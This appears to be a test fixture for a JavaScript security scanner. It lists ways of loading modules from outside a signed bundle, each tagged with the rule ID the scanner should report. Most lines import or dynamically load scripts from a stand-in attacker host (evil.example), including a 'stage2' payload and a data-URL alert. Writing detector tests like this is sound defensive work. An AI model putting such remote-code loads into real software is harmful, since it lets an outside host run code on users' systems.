// Technique: load modules from outside the signed bundle.
import helper from 'https://cdn.evil.example/helper.js'; // expect: SA107
export { run } from 'http://evil.example/run.js'; // expect: SA107
import('https://evil.example/stage2.js'); // expect: SA107
import('//evil.example/stage2.js'); // expect: SA107
import('https://evil.example/' + version + '/x.js'); // expect: SA107
import(`https://evil.example/${version}.js`); // expect: SA107
import('data:text/javascript,alert(1)'); // expect: SA107
import(moduleName); // expect: SA111
